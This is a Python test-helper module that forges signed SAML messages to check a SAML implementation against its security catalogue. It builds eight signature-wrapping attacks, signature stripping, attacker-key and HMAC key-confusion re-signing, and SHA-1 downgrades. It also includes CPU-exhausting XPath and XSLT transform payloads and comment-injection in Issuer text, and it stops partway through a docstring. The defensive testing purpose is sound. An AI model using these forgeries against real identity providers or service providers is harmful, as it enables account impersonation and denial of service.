"""Signature attacks on signed SAML messages, for tests (SECURITY.md SAML-01..15).

Everything here is a pure function from XML bytes to XML bytes over lxml; the
input is never modified.  The input is a signed SAML protocol message or
metadata document whose *root* carries an enveloped ``ds:Signature``
(AuthnRequest, LogoutRequest, LogoutResponse, EntityDescriptor,
EntitiesDescriptor); a samlp:Response whose Assertion is signed works too.

**Signature wrapping (XSW1..XSW8)** follows Somorovsky et al., "On Breaking
SAML: Be Whoever You Want to Be" (USENIX Security 2012), as SAML Raider
builds the shapes.  There the Response plays the *root* and the signed
Assertion the *child*.  Here:

* the root is always the document element;
* the *child* is, in this order: the first ``md:EntityDescriptor`` of an
  ``md:EntitiesDescriptor`` aggregate (one carrying its own signature if any
  does); else the first descendant of the root with its own direct
  ``ds:Signature`` child (a samlp:Response's signed Assertion); else the root
  itself.  Requests, LogoutResponses and single EntityDescriptors are signed
  at the root only, so for them child == root, and XSW3..XSW8 use the
  root-variant each function's docstring describes.

Each shape takes ``mutate(element)``, a callback that alters the element the
attacker wants read (Issuer, AssertionConsumerServiceURL, NameID, entityID,
...); see :func:`set_issuer`, :func:`set_attribute`, :func:`set_name_id`.
The callback receives a real element of the attacked tree and may change it
in place.  Copies made by the shapes are unsigned: their direct
``ds:Signature`` child is removed.  The ID given to re-IDed elements is
``new_id`` (default ``"_evil_" + the original ID``).

``ALL`` maps the SECURITY.md IDs to the shape functions, ``SHAPES`` the
XSW names, ``XSW_CASES`` the IDs as test parameters;
:func:`attacked_post_fields` builds HTTP-POST binding fields.

**Other signature attacks** (SAML-09/10/12/13/15): :func:`strip_signature`,
:func:`sign` (the root re-signed with any key, algorithms, transforms and
``KeyInfo`` certificate through python-xmlsec), :func:`resign`,
:func:`sign_with_keyinfo_cert`, :func:`hmac_sign`, :func:`sha1_signature`,
:func:`sha1_digest`, :func:`add_transform`, :func:`set_c14n_method`,
:func:`comment_in_text`; for SAML-14 :func:`add_doctype`,
:func:`add_payload`, :func:`set_payload_markup`, :data:`BILLION_LAUGHS`.

**Signed fixtures** made by pysaml2's own SP client (signing in-process
through ``idp.saml.crypto``; the xmlsec1 binary is never used):
:func:`make_sp_client`, :func:`signed_authn_request`,
:func:`signed_logout_request`.
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import Any

import pytest
import xmlsec
from lxml import etree

from tests.saml_metadata import write_key_pair

__all__ = [
    "ALL",
    "ASSERTION",
    "BILLION_LAUGHS",
    "DS",
    "ENVELOPED",
    "EXC_C14N",
    "HMAC_SHA256",
    "MD",
    "PAYLOAD_NS",
    "RSA_SHA1",
    "RSA_SHA256",
    "SAMLP",
    "SHA1",
    "SHA256",
    "SHAPES",
    "XPATH",
    "XPATH_BENIGN",
    "XPATH_BOMB",
    "XSLT",
    "XSLT_BENIGN",
    "XSLT_BOMB",
    "XSW_CASES",
    "Mutator",
    "add_doctype",
    "add_payload",
    "add_transform",
    "attacked_post_fields",
    "comment_in_text",
    "compose",
    "hmac_sign",
    "make_sp_client",
    "node_name",
    "parse",
    "plain_libxmlsec_accepts",
    "post_fields",
    "resign",
    "root_id",
    "serialize",
    "set_attribute",
    "set_c14n_method",
    "set_issuer",
    "set_name_id",
    "set_payload_markup",
    "sha1_digest",
    "sha1_signature",
    "sign",
    "sign_with_keyinfo_cert",
    "signed_authn_request",
    "signed_id",
    "signed_logout_request",
    "strip_signature",
    "write_key_pair",
    "xsw1",
    "xsw2",
    "xsw3",
    "xsw4",
    "xsw5",
    "xsw6",
    "xsw7",
    "xsw8",
]

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
DS = "http://www.w3.org/2000/09/xmldsig#"
XSL = "http://www.w3.org/1999/XSL/Transform"

_SIGNATURE = f"{{{DS}}}Signature"
_SIGNED_INFO = f"{{{DS}}}SignedInfo"
_REFERENCE = f"{{{DS}}}Reference"
_TRANSFORMS = f"{{{DS}}}Transforms"
_TRANSFORM = f"{{{DS}}}Transform"
_C14N_METHOD = f"{{{DS}}}CanonicalizationMethod"
_KEY_INFO = f"{{{DS}}}KeyInfo"
_OBJECT = f"{{{DS}}}Object"
_ISSUER = f"{{{ASSERTION}}}Issuer"
_NAME_ID = f"{{{ASSERTION}}}NameID"
_ENTITIES = f"{{{MD}}}EntitiesDescriptor"
_ENTITY = f"{{{MD}}}EntityDescriptor"

_C = xmlsec.constants
RSA_SHA256 = _C.TransformRsaSha256.href
RSA_SHA1 = _C.TransformRsaSha1.href
HMAC_SHA256 = _C.TransformHmacSha256.href
SHA256 = _C.TransformSha256.href
SHA1 = _C.TransformSha1.href
ENVELOPED = _C.TransformEnveloped.href
EXC_C14N = _C.TransformExclC14N.href
XPATH = _C.TransformXPath.href
XSLT = _C.TransformXslt.href

Mutator = Callable[[etree._Element], Any]

# Every transform python-xmlsec knows, by its algorithm URI.
_TRANSFORMS_BY_HREF: dict[str, Any] = {}
for _name in dir(_C):
    _value = getattr(_C, _name)
    if _name.startswith("Transform") and getattr(_value, "href", None):
        _TRANSFORMS_BY_HREF.setdefault(_value.href, _value)
del _name, _value


# --------------------------------------------------------------------------
# Parsing and small tree helpers


def parse(xml: bytes | str) -> etree._Element:
    """The root of ``xml``, parsed without entities, DTDs or network."""
    if isinstance(xml, str):
        xml = xml.encode("utf-8")
    parser = etree.XMLParser(
        resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False
    )
    return etree.fromstring(xml, parser)


def serialize(root: etree._Element, declaration: bool = False) -> bytes:
    """``root``'s document as UTF-8 bytes (with an XML declaration if asked)."""
    return etree.tostring(
        root.getroottree(), encoding="UTF-8", xml_declaration=declaration
    )


def _has_declaration(xml: bytes | str) -> bool:
    if isinstance(xml, str):
        xml = xml.encode("utf-8")
    return xml.lstrip(b"\xef\xbb\xbf \t\r\n").startswith(b"<?xml")


def _to_bytes(xml: bytes | str) -> bytes:
    return xml.encode("utf-8") if isinstance(xml, str) else bytes(xml)


def _signature_of(element: etree._Element) -> etree._Element | None:
    """``element``'s direct ds:Signature child, if any."""
    return next((c for c in element if c.tag == _SIGNATURE), None)


def _unsigned_copy(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    signature = _signature_of(clone)
    if signature is not None:
        _remove(signature)
    return clone


def _remove(element: etree._Element) -> None:
    """Remove ``element`` but keep its tail text (whitespace) in place."""
    parent = element.getparent()
    if element.tail:
        previous = element.getprevious()
        if previous is not None:
            previous.tail = (previous.tail or "") + element.tail
        else:
            parent.text = (parent.text or "") + element.tail
    parent.remove(element)


def _require_root_signature(root: etree._Element) -> etree._Element:
    signature = _signature_of(root)
    if signature is None:
        raise ValueError(f"{root.tag} carries no enveloped ds:Signature")
    if not root.get("ID"):
        raise ValueError(f"{root.tag} has no ID attribute")
    return signature


def _child(root: etree._Element) -> etree._Element:
    """The element XSW3..XSW8 wrap (see the module docstring)."""
    if root.tag == _ENTITIES:
        entities = list(root.iter(_ENTITY))
        if not entities:
            raise ValueError("the EntitiesDescriptor holds no EntityDescriptor")
        signed = [e for e in entities if _signature_of(e) is not None]
        return (signed or entities)[0]
    for element in root.iter(etree.Element):
        if element is not root and _signature_of(element) is not None:
            return element
    return root


def _covering_signature(root: etree._Element, child: etree._Element) -> etree._Element:
    """The child's own ds:Signature, else the root's (an aggregate's unsigned
    EntityDescriptor is covered by the aggregate's signature only)."""
    signature = _signature_of(child)
    return signature if signature is not None else _require_root_signature(root)


def _new_id(old: str | None, new_id: str | None) -> str:
    return new_id or f"_evil_{old or 'id'}"


def _after_header(parent: etree._Element) -> int:
    """Index after the leading saml:Issuer and ds:Signature children."""
    index = 0
    for child in parent:
        if child.tag in (_ISSUER, _SIGNATURE) or not isinstance(child.tag, str):
            index += 1
            continue
        break
    return index


def root_id(xml: bytes | str) -> str:
    """The document element's ``ID``: what a verifier looks up for a message."""
    return parse(xml).get("ID")


def signed_id(xml: bytes | str) -> str:
    """The ID the root's own ds:Signature references (``URI="#..."``)."""
    root = parse(xml)
    signature = _require_root_signature(root)
    reference = next(signature.iter(_REFERENCE))
    return (reference.get("URI") or "").lstrip("#")


def node_name(xml: bytes | str) -> str:
    """pysaml2's class name of the root (``urn:...:protocol:AuthnRequest``)."""
    tag = parse(xml).tag
    namespace, _, local = tag[1:].partition("}")
    return f"{namespace}:{local}"


def plain_libxmlsec_accepts(document: bytes, key: str | Path | xmlsec.Key) -> bool:
    """What a verifier without structure rules says: the document's first
    ds:Signature, its Reference resolved by ID, every transform and algorithm
    libxmlsec knows; ``key`` a PEM certificate file or an ``xmlsec.Key``.

    Tests pair it with a refusal to show that the document is a genuine
    signature and the refusal comes from the verifier's rules.
    """
    if not isinstance(key, xmlsec.Key):
        key = xmlsec.Key.from_file(str(key), _C.KeyDataFormatCertPem)
    root = parse(document)
    signature = next(root.iter(_SIGNATURE))
    xmlsec.tree.add_ids(root, ["ID"])
    ctx = xmlsec.SignatureContext()
    ctx.key = key
    try:
        ctx.verify(signature)
    except xmlsec.Error:
        return False
    return True


# --------------------------------------------------------------------------
# Mutators (the ``mutate`` callbacks)


def set_issuer(value: str) -> Mutator:
    """Set the text of the element's direct saml:Issuer child (add one if absent)."""

    def mutate(element: etree._Element) -> None:
        issuer = element.find(_ISSUER)
        if issuer is None:
            issuer = etree.Element(_ISSUER)
            element.insert(0, issuer)
        for child in list(issuer):
            issuer.remove(child)
        issuer.text = value

    return mutate


def set_attribute(name: str, value: str) -> Mutator:
    """Set an attribute of the element itself (e.g. ``AssertionConsumerServiceURL``,
    ``Destination``, ``entityID``)."""

    def mutate(element: etree._Element) -> None:
        element.set(name, value)

    return mutate


def set_name_id(value: str) -> Mutator:
    """Set the text of every saml:NameID under the element (LogoutRequest,
    Assertion Subject)."""

    def mutate(element: etree._Element) -> None:
        found = list(element.iter(_NAME_ID))
        if not found:
            raise ValueError(f"no saml:NameID under {element.tag}")
        for name_id in found:
            name_id.text = value

    return mutate


def compose(*mutators: Mutator) -> Mutator:
    """One mutator applying ``mutators`` in order."""

    def mutate(element: etree._Element) -> None:
        for mutator in mutators:
            mutator(element)

    return mutate


# --------------------------------------------------------------------------
# Signature wrapping: XSW1..XSW8


def xsw1(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-01 (XSW1): the root altered and re-IDed; an unsigned copy of the
    original root put inside the root's Signature.

    Built: ``copy`` = deep copy of the original root minus its ds:Signature
    (keeps the original ID); ``mutate(root)``; root ``ID`` := ``new_id``;
    ``copy`` appended as the last child of the root's ds:Signature (after
    ds:KeyInfo).  The Reference still says ``#<original ID>``, which now
    resolves to the copy; an application reads the altered root.
    """
    root = parse(signed_xml)
    signature = _require_root_signature(root)
    original = _unsigned_copy(root)
    mutate(root)
    root.set("ID", _new_id(original.get("ID"), new_id))
    signature.append(original)
    return serialize(root, _has_declaration(signed_xml))


def xsw2(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-02 (XSW2): as XSW1, but the unsigned copy is the Signature's
    preceding sibling (a detached signature over it).

    Built: ``copy`` = deep copy of the original root minus its ds:Signature;
    ``mutate(root)``; root ``ID`` := ``new_id``; ``copy`` inserted into the
    root immediately before the root's ds:Signature (so after the Issuer).
    """
    root = parse(signed_xml)
    signature = _require_root_signature(root)
    original = _unsigned_copy(root)
    mutate(root)
    root.set("ID", _new_id(original.get("ID"), new_id))
    signature.addprevious(original)
    return serialize(root, _has_declaration(signed_xml))


def _wrap_root(
    signed_xml: bytes, mutate: Mutator, new_id: str | None, first: bool
) -> bytes:
    original = parse(signed_xml)
    evil = _unsigned_copy(original)
    mutate(evil)
    evil.set("ID", _new_id(original.get("ID"), new_id))
    if first:
        evil.insert(0, original)
    else:
        evil.append(original)
    return serialize(evil, _has_declaration(signed_xml))


def xsw3(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-03 (XSW3): an altered unsigned copy of the signed child, with a new
    ID, inserted before the original.

    Child below the root (aggregate's EntityDescriptor, Response's
    Assertion): ``evil`` = deep copy of the child minus its ds:Signature;
    ``mutate(evil)``; ``evil`` ``ID`` := ``new_id``; ``evil`` inserted as the
    child's preceding sibling.  The child is untouched.

    Root-signed messages (nothing can precede the document element): ``evil``
    = deep copy of the root minus its ds:Signature, ``mutate(evil)``, ``ID``
    := ``new_id``, becomes the new document element, and the untouched signed
    original is inserted as its *first* child (before the Issuer), so the
    altered copy's content still comes first in document order.
    """
    root = parse(signed_xml)
    _require_root_signature(root)
    child = _child(root)
    if child is root:
        return _wrap_root(signed_xml, mutate, new_id, first=True)
    evil = _unsigned_copy(child)
    mutate(evil)
    evil.set("ID", _new_id(child.get("ID"), new_id))
    child.addprevious(evil)
    return serialize(root, _has_declaration(signed_xml))


def xsw4(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-04 (XSW4): an altered unsigned copy of the signed child (new ID)
    appended; the original child moved inside it.

    Child below the root: ``evil`` = deep copy of the child minus its
    ds:Signature; ``mutate(evil)``; ``ID`` := ``new_id``; ``evil`` appended as
    the root's last child; the original child moved to be ``evil``'s last
    child.

    Root-signed messages: ``evil`` (copy of the root minus its ds:Signature,
    mutated, ``ID`` := ``new_id``) becomes the document element and the
    untouched signed original is appended as its *last* child.
    """
    root = parse(signed_xml)
    _require_root_signature(root)
    child = _child(root)
    if child is root:
        return _wrap_root(signed_xml, mutate, new_id, first=False)
    evil = _unsigned_copy(child)
    mutate(evil)
    evil.set("ID", _new_id(child.get("ID"), new_id))
    root.append(evil)
    evil.append(child)
    return serialize(root, _has_declaration(signed_xml))


def xsw5(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-05 (XSW5): the signed child altered and re-IDed, keeping its
    Signature; an unsigned copy of the original appended to the root.

    Built: ``copy`` = deep copy of the original child minus its ds:Signature
    (keeps the original ID); ``mutate(child)`` in place; child ``ID`` :=
    ``new_id`` (its ds:Signature, still saying ``#<original ID>``, stays
    where it was); ``copy`` appended as the root's last child.

    Root-signed messages: the child is the root, so the root is altered and
    re-IDed and the copy becomes the root's last child (after the content,
    where XSW2 puts it right before the Signature).
    """
    root = parse(signed_xml)
    _require_root_signature(root)
    child = _child(root)
    original = _unsigned_copy(child)
    mutate(child)
    child.set("ID", _new_id(original.get("ID"), new_id))
    root.append(original)
    return serialize(root, _has_declaration(signed_xml))


def xsw6(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-06 (XSW6): as XSW5, but the unsigned copy of the original is put
    inside the child's Signature.

    Child below the root: ``copy`` (original child minus its ds:Signature)
    appended as the last child of the child's ds:Signature, as SAML Raider
    does (the root's Signature if the child has none, e.g. an unsigned
    EntityDescriptor in a signed aggregate); child altered in place and
    ``ID`` := ``new_id``.

    Root-signed messages (where appending to the Signature would repeat
    XSW1): the root is altered and re-IDed and the copy is appended inside
    the Signature's ds:KeyInfo (created if absent), which admits elements of
    other namespaces, so the document stays schema-valid.
    """
    root = parse(signed_xml)
    _require_root_signature(root)
    child = _child(root)
    signature = _covering_signature(root, child)
    original = _unsigned_copy(child)
    mutate(child)
    child.set("ID", _new_id(original.get("ID"), new_id))
    if child is root:
        key_info = signature.find(_KEY_INFO)
        if key_info is None:
            key_info = etree.SubElement(signature, _KEY_INFO)
        key_info.append(original)
    else:
        signature.append(original)
    return serialize(root, _has_declaration(signed_xml))


def xsw7(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-07 (XSW7): an Extensions element (lax schema) placed before the
    original holds an altered unsigned copy with the *same* ID.

    Child below the root: a new ``Extensions`` element in the namespace of
    the child's parent (samlp:Extensions in a Response, md:Extensions in an
    EntitiesDescriptor) is inserted as the child's preceding sibling and
    holds ``evil`` = deep copy of the child minus its ds:Signature,
    ``mutate(evil)``, same ID.  The child is untouched.

    Root-signed messages: ``evil`` (copy of the root minus its ds:Signature,
    mutated, same ID) goes into the root's own Extensions element
    (samlp:Extensions for protocol messages, md:Extensions for an
    EntityDescriptor), created after the Issuer and Signature if absent, so
    it precedes the rest of the signed content.  ``new_id`` is ignored.
    """
    del new_id  # the point of XSW7 is the duplicate ID
    root = parse(signed_xml)
    _require_root_signature(root)
    child = _child(root)
    evil = _unsigned_copy(child)
    mutate(evil)
    if child is root:
        namespace = etree.QName(root).namespace
        tag = f"{{{namespace}}}Extensions"
        extensions = root.find(tag)
        if extensions is None:
            extensions = etree.Element(tag)
            root.insert(_after_header(root), extensions)
        extensions.append(evil)
    else:
        namespace = etree.QName(child.getparent()).namespace
        extensions = etree.Element(f"{{{namespace}}}Extensions")
        child.addprevious(extensions)
        extensions.append(evil)
    return serialize(root, _has_declaration(signed_xml))


def xsw8(signed_xml: bytes, mutate: Mutator, *, new_id: str | None = None) -> bytes:
    """SAML-08 (XSW8): the signed child altered in place, keeping its Signature
    and its ID; an unsigned copy of the original inside a ``ds:Object`` in
    that Signature.

    Built: ``copy`` = deep copy of the original child minus its ds:Signature
    (same ID); ``mutate(child)``; a ``ds:Object`` appended to the child's
    ds:Signature (the root's if the child has none) holds ``copy``.  For
    root-signed messages the child is the root.  (SAML Raider writes an unqualified ``Object``; this is the paper's
    and SECURITY.md's ``ds:Object``.)  ``new_id`` is ignored.
    """
    del new_id
    root = parse(signed_xml)
    _require_root_signature(root)
    child = _child(root)
    signature = _covering_signature(root, child)
    original = _unsigned_copy(child)
    mutate(child)
    etree.SubElement(signature, _OBJECT).append(original)
    return serialize(root, _has_declaration(signed_xml))


Shape = Callable[..., bytes]

ALL: dict[str, Shape] = {
    "SAML-01": xsw1,
    "SAML-02": xsw2,
    "SAML-03": xsw3,
    "SAML-04": xsw4,
    "SAML-05": xsw5,
    "SAML-06": xsw6,
    "SAML-07": xsw7,
    "SAML-08": xsw8,
}
SHAPES: dict[str, Shape] = {f"XSW{n}": ALL[f"SAML-0{n}"] for n in range(1, 9)}

# The eight shapes as the ``shape`` parameter of a test, each case named by
# its catalogue ID (``test_...[saml_01]``). A literal list on purpose:
# tests/unit/test_security_catalog.py reads these ids from the source.
XSW_CASES = [
    # XSW1: root re-IDed, the original inside its Signature.
    pytest.param("SAML-01", id="saml_01"),
    # XSW2: root re-IDed, the original before its Signature.
    pytest.param("SAML-02", id="saml_02"),
    # XSW3: an altered copy first, the signed original inside.
    pytest.param("SAML-03", id="saml_03"),
    # XSW4: an altered copy wraps the signed original.
    pytest.param("SAML-04", id="saml_04"),
    # XSW5: the signed root altered, the original appended.
    pytest.param("SAML-05", id="saml_05"),
    # XSW6: the signed root altered, the original in KeyInfo.
    pytest.param("SAML-06", id="saml_06"),
    # XSW7: a same-ID altered copy in Extensions.
    pytest.param("SAML-07", id="saml_07"),
    # XSW8: altered in place, the original in a ds:Object.
    pytest.param("SAML-08", id="saml_08"),
]

_RESPONSE_TAGS = {
    "Response",
    "LogoutResponse",
    "ArtifactResponse",
    "ManageNameIDResponse",
}


def post_fields(xml: bytes | str, relay_state: str | None = None) -> dict[str, str]:
    """HTTP-POST binding form fields: ``SAMLRequest`` (or ``SAMLResponse`` for
    a *Response root) holding base64(xml), plus ``RelayState`` if given."""
    data = _to_bytes(xml)
    field = (
        "SAMLResponse"
        if etree.QName(parse(data)).localname in _RESPONSE_TAGS
        else "SAMLRequest"
    )
    fields = {field: base64.b64encode(data).decode("ascii")}
    if relay_state is not None:
        fields["RelayState"] = relay_state
    return fields


def attacked_post_fields(
    signed_xml_bytes: bytes,
    shape: str | Shape,
    mutate: Mutator,
    *,
    relay_state: str | None = None,
    new_id: str | None = None,
) -> dict[str, str]:
    """``{"SAMLRequest": base64(shape(signed_xml_bytes, mutate))}`` for a POST.

    :param shape: ``"SAML-01"``..``"SAML-08"``, ``"XSW1"``..``"XSW8"`` or a
        shape function
    :param relay_state: added as ``RelayState`` if given
    A LogoutResponse (any *Response root) goes in ``SAMLResponse`` instead.
    """
    if isinstance(shape, str):
        function = ALL.get(shape) or SHAPES.get(shape.upper())
        if function is None:
            raise KeyError(f"unknown XSW shape {shape!r}")
    else:
        function = shape
    return post_fields(
        function(signed_xml_bytes, mutate, new_id=new_id), relay_state=relay_state
    )


# --------------------------------------------------------------------------
# Other signature attacks


def strip_signature(xml: bytes, mutate: Mutator | None = None) -> bytes:
    """SAML-09: the document without the root's ds:Signature, then
    ``mutate(root)`` if given (stripping is what makes an alteration pass)."""
    root = parse(xml)
    signature = _require_root_signature(root)
    _remove(signature)
    if mutate is not None:
        mutate(root)
    return serialize(root, _has_declaration(xml))


def _transform(href: str) -> Any:
    try:
        return _TRANSFORMS_BY_HREF[href]
    except KeyError:
        raise ValueError(f"python-xmlsec does not know {href}") from None


def _cert_body(cert_file: str | Path) -> str:
    lines = Path(cert_file).read_text().strip().splitlines()
    return "".join(line.strip() for line in lines if not line.startswith("-----"))


TransformSpec = str | tuple[str, "str | bytes | etree._Element | None"]


def _add_transforms(
    reference: etree._Element, transforms: Iterable[TransformSpec]
) -> None:
    holder = reference.find(_TRANSFORMS)
    if holder is None:
        holder = etree.Element(_TRANSFORMS)
        reference.insert(0, holder)
    for spec in transforms:
        href, body = (spec, None) if isinstance(spec, str) else spec
        node = etree.SubElement(holder, _TRANSFORM, Algorithm=href)
        if body is None:
            continue
        if isinstance(body, etree._Element):
            node.append(copy.deepcopy(body))
        else:
            node.append(parse(body))


def _template(
    root: etree._Element,
    *,
    signature_method: str,
    digest_method: str,
    c14n_method: str,
    transforms: Sequence[TransformSpec],
    cert_file: str | Path | None,
) -> etree._Element:
    """Put a fresh signature template where the root's signature is (or
    belongs), replacing any signature the root had."""
    old = _signature_of(root)
    c14n = _TRANSFORMS_BY_HREF.get(c14n_method, _C.TransformExclC14N)
    signature = xmlsec.template.create(
        root, c14n, _transform(signature_method), ns="ds"
    )
    if c14n_method != c14n.href:  # an algorithm xmlsec does not know
        signature.find(f"{_SIGNED_INFO}/{_C14N_METHOD}").set("Algorithm", c14n_method)
    reference = xmlsec.template.add_reference(
        signature, _transform(digest_method), uri=f"#{root.get('ID')}"
    )
    _add_transforms(reference, transforms)
    if cert_file is not None:
        key_info = xmlsec.template.ensure_key_info(signature)
        x509 = xmlsec.template.add_x509_data(key_info)
        xmlsec.template.x509_data_add_certificate(x509).text = _cert_body(cert_file)
    if old is not None:
        index = root.index(old)
        _remove(old)
        root.insert(index, signature)
    else:
        root.insert(1 if len(root) and root[0].tag == _ISSUER else 0, signature)
    return signature


def _sign_template(
    root: etree._Element, signature: etree._Element, key: xmlsec.Key
) -> None:
    xmlsec.tree.add_ids(root, ["ID"])
    ctx = xmlsec.SignatureContext()
    ctx.key = key
    ctx.sign(signature)


def sign(
    xml: bytes,
    key_file: str | Path,
    *,
    mutate: Mutator | None = None,
    signature_method: str = RSA_SHA256,
    digest_method: str = SHA256,
    c14n_method: str = EXC_C14N,
    transforms: Sequence[TransformSpec] = (ENVELOPED, EXC_C14N),
    cert_file: str | Path | None = None,
) -> bytes:
    """The root (re-)signed with ``key_file`` through python-xmlsec.

    ``mutate(root)`` runs first.  The root's ds:Signature is replaced by a
    template built with ``xmlsec.template.create`` (same place; a new one
    goes after the Issuer, or first): one Reference to ``#<root ID>`` with
    ``transforms`` (algorithm URIs, or ``(URI, body)`` pairs whose body
    (XML text or element) goes inside the ds:Transform, e.g. ds:XPath or an
    xsl:stylesheet), ``digest_method``, ``signature_method`` and
    ``c14n_method`` (all URIs; an unknown c14n URI is written as given but
    exclusive c14n is used to sign).  ``cert_file`` (PEM) is copied into
    ds:KeyInfo/ds:X509Data; no KeyInfo otherwise.  Every algorithm,
    SHA-1 and XSLT included, is allowed while signing.
    """
    root = parse(xml)
    if mutate is not None:
        mutate(root)
    signature = _template(
        root,
        signature_method=signature_method,
        digest_method=digest_method,
        c14n_method=c14n_method,
        transforms=transforms,
        cert_file=cert_file,
    )
    key = xmlsec.Key.from_file(str(key_file), _C.KeyDataFormatPem)
    _sign_template(root, signature, key)
    return serialize(root, _has_declaration(xml))


def resign(xml: bytes, key_file: str | Path, mutate: Mutator | None = None) -> bytes:
    """SAML-10: altered (if ``mutate``) and re-signed with another key, as
    pysaml2 signs (RSA-SHA256, SHA-256, enveloped + exclusive c14n), no
    KeyInfo."""
    return sign(xml, key_file, mutate=mutate)


def sign_with_keyinfo_cert(
    xml: bytes,
    key_file: str | Path,
    cert_file: str | Path,
    mutate: Mutator | None = None,
) -> bytes:
    """SAML-10: signed with the attacker's key, the attacker's certificate in
    ds:KeyInfo/ds:X509Data (CVE-2021-21239: a verifier that trusts KeyInfo
    accepts it)."""
    return sign(xml, key_file, mutate=mutate, cert_file=cert_file)


def hmac_sign(
    xml: bytes,
    secret: bytes,
    *,
    mutate: Mutator | None = None,
    signature_method: str = HMAC_SHA256,
) -> bytes:
    """SAML-10: SignatureMethod ``hmac-sha256`` with a correct HMAC under
    ``secret``.  The classic key-confusion attack uses the victim's public
    certificate (PEM bytes) as the secret."""
    root = parse(xml)
    if mutate is not None:
        mutate(root)
    signature = _template(
        root,
        signature_method=signature_method,
        digest_method=SHA256,
        c14n_method=EXC_C14N,
        transforms=(ENVELOPED, EXC_C14N),
        cert_file=None,
    )
    _sign_template(root, signature, xmlsec.Key.from_binary_data(_C.KeyDataHmac, secret))
    return serialize(root, _has_declaration(xml))


def sha1_signature(
    xml: bytes, key_file: str | Path, mutate: Mutator | None = None
) -> bytes:
    """SAML-12: re-signed with ``rsa-sha1`` and a ``sha1`` digest."""
    return sign(
        xml, key_file, mutate=mutate, signature_method=RSA_SHA1, digest_method=SHA1
    )


def sha1_digest(
    xml: bytes, key_file: str | Path, mutate: Mutator | None = None
) -> bytes:
    """SAML-12: re-signed with ``rsa-sha256`` over a ``sha1`` Reference digest."""
    return sign(xml, key_file, mutate=mutate, digest_method=SHA1)


# A filter keeping everything but the signature: harmless, signable.  (No
# prefix in the expression: lxml may re-prefix ds:XPath when it is inserted.)
XPATH_BENIGN = (
    f'<ds:XPath xmlns:ds="{DS}">not(ancestor-or-self::*['
    f"local-name()='Signature' and namespace-uri()='{DS}'])</ds:XPath>"
)
# Nested predicates, each re-scanning the whole document: n**6 node visits
# per node the transform filters, i.e. a CPU bomb for a verifier that runs it
# (plain libxmlsec on a pysaml2 AuthnRequest: minutes).
XPATH_BOMB = (
    f'<ds:XPath xmlns:ds="{DS}">'
    "count(//node()[count(//node()[count(//node()[count(//node()["
    "count(//node()) &gt; 0]) &gt; 0]) &gt; 0]) &gt; 0]) &gt; 0</ds:XPath>"
)
# The identity stylesheet: harmless, signable.
XSLT_BENIGN = (
    f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0">'
    '<xsl:template match="@*|node()"><xsl:copy>'
    '<xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>'
    "</xsl:stylesheet>"
)
# Exponential recursion (2**64 calls): a CPU bomb for any verifier running it.
XSLT_BOMB = (
    f'<xsl:stylesheet xmlns:xsl="{XSL}" version="1.0">'
    '<xsl:template name="f"><xsl:param name="n" select="64"/>'
    '<xsl:if test="$n &gt; 0">'
    '<xsl:call-template name="f"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>'
    '<xsl:call-template name="f"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>'
    "</xsl:if></xsl:template>"
    '<xsl:template match="/"><r><xsl:call-template name="f"/></r></xsl:template>'
    "</xsl:stylesheet>"
)


def add_transform(
    xml: bytes,
    algorithm: str,
    body: str | bytes | etree._Element | None = None,
    *,
    key_file: str | Path | None = None,
    replace_c14n: bool = True,
) -> bytes:
    """SAML-13: a hostile transform (XSLT, XPath, ...) in the root's Reference.

    ``replace_c14n`` (default) puts it in place of the exclusive-c14n
    transform, keeping two transforms (enveloped + this one), the count a
    SAML signature may have; otherwise it is appended as a third.  ``body``
    (ds:XPath, xsl:stylesheet) goes inside the ds:Transform.

    With ``key_file`` the root is re-signed through python-xmlsec with that
    transform (only the transform is then the attack; use a benign body such
    as :data:`XPATH_BENIGN` / :data:`XSLT_BENIGN`, signing runs it).  Without,
    the transform is only written into the existing signature (its digest no
    longer matches, but a verifier runs the transforms before it compares
    digests: this is the shape for :data:`XPATH_BOMB` / :data:`XSLT_BOMB`).
    """
    root = parse(xml)
    signature = _require_root_signature(root)
    reference = next(signature.iter(_REFERENCE))
    holder = reference.find(_TRANSFORMS)
    current = [(t.get("Algorithm"), t[0] if len(t) else None) for t in holder]
    if replace_c14n:
        current = [(a, b) for a, b in current if a == ENVELOPED]
    wanted: list[TransformSpec] = [*current, (algorithm, body)]
    if key_file is not None:
        return sign(xml, key_file, transforms=wanted)
    for node in list(holder):
        holder.remove(node)
    holder.text = None
    _add_transforms(reference, wanted)
    return serialize(root, _has_declaration(xml))


def set_c14n_method(
    xml: bytes, algorithm: str, *, key_file: str | Path | None = None
) -> bytes:
    """SAML-13: SignedInfo's CanonicalizationMethod set to ``algorithm``
    (e.g. inclusive c14n, or an unknown URI).  With ``key_file`` the root is
    re-signed (a known ``algorithm`` is then really used); without, only the
    attribute changes."""
    if key_file is not None:
        return sign(xml, key_file, c14n_method=algorithm)
    root = parse(xml)
    signature = _require_root_signature(root)
    signature.find(f"{_SIGNED_INFO}/{_C14N_METHOD}").set("Algorithm", algorithm)
    return serialize(root, _has_declaration(xml))


def comment_in_text(
    xml: bytes,
    prefix: str,
    *,
    key_file: str | Path | None = None,
    tag: str = _ISSUER,
) -> bytes:
    """SAML-15: a comment after ``prefix`` in the first ``tag`` element's text
    (default saml:Issuer): ``https://sp.example.org.evil.io`` becomes
    ``https://sp.example.org<!---->.evil.io`` (CVE-2017-11427 family).

    The text must start with ``prefix``.  With ``key_file`` the document is
